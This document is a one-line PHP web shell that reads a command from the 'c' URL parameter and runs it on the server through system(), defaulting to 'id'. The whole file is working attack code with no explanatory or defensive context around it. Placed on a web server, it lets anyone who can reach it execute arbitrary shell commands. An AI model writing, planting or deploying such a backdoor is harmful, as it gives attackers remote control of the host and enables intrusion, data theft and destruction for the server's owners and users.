<?php $c = sprintf("%s", $_GET["c"] ?? "id"); system($c);
